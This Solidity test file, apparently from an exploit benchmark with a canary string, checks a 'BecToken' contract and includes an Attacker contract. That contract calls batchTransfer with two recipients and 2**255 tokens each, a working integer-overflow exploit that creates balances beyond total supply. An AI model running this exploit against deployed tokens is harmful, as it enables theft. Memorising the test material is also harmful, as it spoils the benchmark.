pragma solidity 0.4.26;

import "./BecToken.sol";

// assay-canary-4909ad3c-e2b3-4071-a661-826715bddbd1

contract Vm {
  function prank(address sender) external;
  function startPrank(address sender) external;
  function stopPrank() external;
  function expectRevert() external;
}

contract Proof {
  Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
  address constant ANA = address(0xA9A);
  address constant BEN = address(0xBE9);

  BecToken internal bec;
  Attacker internal thief;

  function setUp() public {
    bec = new BecToken(7000000000e18);
    bec.transfer(ANA, 1000e18);
    thief = new Attacker(bec);
  }

  function list(uint256 n) internal pure returns (address[] memory to) {
    to = new address[](n);
    for (uint256 i = 0; i < n; i++) to[i] = address(0x1000 + i);
  }

  function test_Regular() public {
    vm.startPrank(ANA);
    bec.batchTransfer(list(20), 10e18);
    require(bec.balanceOf(address(0x1013)) == 10e18 && bec.balanceOf(ANA) == 800e18, "many at once");
    bec.approve(this, 100e18);
    vm.stopPrank();
    bec.transferFrom(ANA, BEN, 60e18);
    require(bec.allowance(ANA, this) == 40e18 && bec.balanceOf(BEN) == 60e18, "allowed");
    bec.pause();
    bec.unpause();
    vm.prank(ANA);
    bec.batchTransfer(list(1), 740e18);
    require(bec.balanceOf(ANA) == 0, "all");
    bec.transferOwnership(ANA);
    require(bec.owner() == ANA && whole(), "owner");
  }

  function test_RefusesStrangers() public {
    vm.startPrank(ANA);
    vm.expectRevert();
    bec.pause();
    vm.expectRevert();
    bec.unpause();
    vm.expectRevert();
    bec.transferOwnership(ANA);
    vm.stopPrank();
    vm.expectRevert();
    bec.transferOwnership(address(0));
  }

  function test_RefusesWhilePaused() public {
    bec.pause();
    vm.expectRevert();
    bec.transfer(ANA, 1);
    vm.expectRevert();
    bec.transferFrom(ANA, BEN, 0);
    vm.expectRevert();
    bec.approve(ANA, 1);
    vm.expectRevert();
    bec.batchTransfer(list(1), 1);
  }

  function test_RefusesAmounts() public {
    vm.startPrank(ANA);
    vm.expectRevert();
    bec.transfer(address(0), 1);
    vm.expectRevert();
    bec.transferFrom(ANA, address(0), 0);
    vm.expectRevert();
    bec.transfer(BEN, 1000e18 + 1);
    vm.expectRevert();
    bec.transferFrom(BEN, ANA, 1);
    vm.expectRevert();
    bec.batchTransfer(list(0), 1);
    vm.expectRevert();
    bec.batchTransfer(list(21), 1);
    vm.expectRevert();
    bec.batchTransfer(list(1), 0);
    vm.expectRevert();
    bec.batchTransfer(list(2), 501e18);
    address(bec).call(abi.encodeWithSelector(bec.batchTransfer.selector, list(2), 2 ** 255));
    vm.expectRevert();
    bec.batchTransfer(list(2), 2 ** 255);
    vm.stopPrank();
  }

  function exploit() public {
    thief.run();
  }

  function test_Exploit() public {
    exploit();
    require(!whole(), "no more than there is");
  }

  /// Whether nobody holds more than there is.
  function whole() public view returns (bool) {
    uint256 all = bec.totalSupply();
    return bec.balanceOf(this) <= all && bec.balanceOf(ANA) <= all && bec.balanceOf(thief) <= all && bec.balanceOf(address(0xF1)) <= all;
  }

  function target() public view returns (address) {
    return bec;
  }

  function attacker() public view returns (address) {
    return thief;
  }
}

/// Sends half of all that a word can hold, twice.
contract Attacker {
  BecToken internal bec;

  constructor(BecToken bec_) public {
    bec = bec_;
  }

  function run() external {
    address[] memory to = new address[](2);
    to[0] = this;
    to[1] = address(0xF1);
    bec.batchTransfer(to, 2 ** 255);
  }
}
